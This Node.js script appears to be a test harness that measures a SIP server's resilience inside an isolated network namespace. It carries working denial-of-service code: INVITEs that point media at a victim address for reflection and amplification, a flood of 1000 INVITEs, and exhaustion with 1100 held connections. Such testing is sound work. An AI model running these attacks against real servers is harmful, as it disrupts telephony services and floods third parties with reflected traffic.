// @ts-check
/**
 * Run inside a namespace: a stranger who wants more of a companion than he gives. Prints one JSON line of what was sent and what came.
 * Usage: node strangerMain.mjs ATTACK SERVER VICTIM SECONDS
 */
import dgram from 'node:dgram';
import net from 'node:net';

const [attack = '', server = '', victim = '', seconds = '10'] = process.argv.slice(2);
const SIP_PORT = 5060;
const HEADERS = 28;
const udp = dgram.createSocket('udp4');
await new Promise((resolve) => udp.bind(0, () => resolve(undefined)));
const { port } = udp.address();
const own = process.env.OWN_ADDRESS ?? '';
let [sent, received] = [0, 0];
udp.on('message', (data) => (received += data.length + HEADERS));

/** @param {string} text */
function send(text) {
  sent += Buffer.byteLength(text) + HEADERS;
  udp.send(text, SIP_PORT, server);
}

/** @param {string} user @param {number} n @param {string} media address and port of c= and m= */
function invite(user, n, media) {
  const [address = '', mediaPort = ''] = media.split(':');
  const sdp = `v=0\r\no=- 1 1 IN IP4 ${address}\r\ns=-\r\nc=IN IP4 ${address}\r\nt=0 0\r\nm=audio ${mediaPort} RTP/AVP 0\r\n`;
  return [
    `INVITE sip:${user}@${server} SIP/2.0`,
    `Via: SIP/2.0/UDP ${own}:${port};branch=z9hG4bK${n}`,
    `From: <sip:a@a>;tag=${n}`,
    `To: <sip:${user}@${server}>`,
    `Call-ID: ${n}@a`,
    'CSeq: 1 INVITE',
    `Contact: <sip:a@${own}:${port}>`,
    'Max-Forwards: 70',
    'Content-Type: application/sdp',
    `Content-Length: ${sdp.length}`,
    '',
    sdp,
  ].join('\r\n');
}

const wait = (/** @type {number} */ ms) => new Promise((resolve) => setTimeout(resolve, ms));

switch (attack) {
  // Never acknowledges: as a forged source would not.
  case 'invites':
    for (const [n, user] of ['tone', 'duplicate-100', 'echo', 'early', 'ring', 'dtmf'].entries())
      send(invite(user, n, `${victim}:40000`));
    await wait(Number(seconds) * 1000);
    break;
  case 'rings':
    for (let n = 0; n < 1000; n++) {
      send(invite('ring', n, `${own}:40000`));
      await wait(20);
    }
    break;
  case 'connections': {
    const sockets = Array.from({ length: 1100 }, () => net.connect(SIP_PORT, server).on('error', () => {}));
    await wait(2000);
    sent = sockets.length;
    received = sockets.filter((socket) => socket.readyState === 'open').length;
    console.log(JSON.stringify({ sent, received }));
    // Held until the end.
    await wait(Number(seconds) * 1000);
    process.exit(0);
  }
  default:
    throw new Error(`no attack "${attack}"`);
}
console.log(JSON.stringify({ sent, received }));
process.exit(0);
